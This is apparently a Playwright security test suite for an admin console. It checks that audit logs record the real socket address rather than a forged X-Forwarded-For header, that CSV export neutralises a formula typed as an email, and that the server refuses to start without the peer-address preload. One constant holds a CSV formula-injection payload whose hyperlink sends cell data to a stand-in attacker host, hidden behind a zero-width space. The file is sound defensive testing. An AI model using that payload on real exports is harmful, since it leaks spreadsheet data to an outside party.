import { expect, test } from "@playwright/test";
import { signInAsAdmin, uniqueEmail } from "../helpers/auth";
import { parseCsv } from "../helpers/audit";
import { auditEventsOf, fetchAuditExport } from "../helpers/audit-export";
import { signInOverHttp } from "../helpers/http-sign-in";
import { E2E } from "../support/env";
import { serveOrExit, spawnConsole } from "../support/spawn-console";

// Typed into the sign-in form's email field. A zero-width space in front of the formula: the old
// guard only looked at the first character; HTTP itself trims leading spaces from a header.
const FORMULA_EMAIL = '\u200b=hyperlink("http://attacker.example/?"&a1,"open")';

test("[SEC][ADDRESS] the audited client address is the socket's, not a forged X-Forwarded-For; CSV defuses a formula in a typed email", async ({
  page,
  playwright,
}) => {
  const email = uniqueEmail("forger");
  const attacker = await playwright.request.newContext({
    baseURL: E2E.appUrl,
    extraHTTPHeaders: {
      "x-forwarded-for": "203.0.113.66, <b>not-an-address</b>",
      "x-handshake-peer-address": "198.51.100.7",
    },
  });
  expect(await signInOverHttp(attacker, { email, password: "wrong-password-123" })).toMatchObject({ ok: false });
  expect(await signInOverHttp(attacker, { email: FORMULA_EMAIL, password: "wrong-password-123" })).toMatchObject({
    ok: false,
  });
  await attacker.dispose();

  await signInAsAdmin(page);
  const [event] = await auditEventsOf(page, email);
  expect(event).toMatchObject({ action: "auth.sign_in_failed", ip: "127.0.0.1" });

  const csv = parseCsv(await fetchAuditExport(page, "csv", { action: "auth.sign_in_failed" }));
  const header = csv[0]!;
  const forged = csv.find((r) => r[header.indexOf("actor_email")] === email)!;
  expect(forged[header.indexOf("ip")]).toBe("127.0.0.1");
  const formula = csv.find((r) => r[header.indexOf("actor_email")]?.includes("attacker.example"))!;
  expect(formula[header.indexOf("actor_email")]).toBe(`'${FORMULA_EMAIL}`);
});

test("[SEC][ADDRESS] a bare `next start` without the peer-address preload refuses to start instead of throttling every client as one", async () => {
  test.setTimeout(120_000);
  const server = await spawnConsole({ via: "next-start" });
  try {
    expect(await serveOrExit(server)).toBe("exited");
    expect(await server.exited).not.toBe(0);
    expect(server.output()).toContain("the client's address is unavailable");
  } finally {
    await server.stop();
  }
});
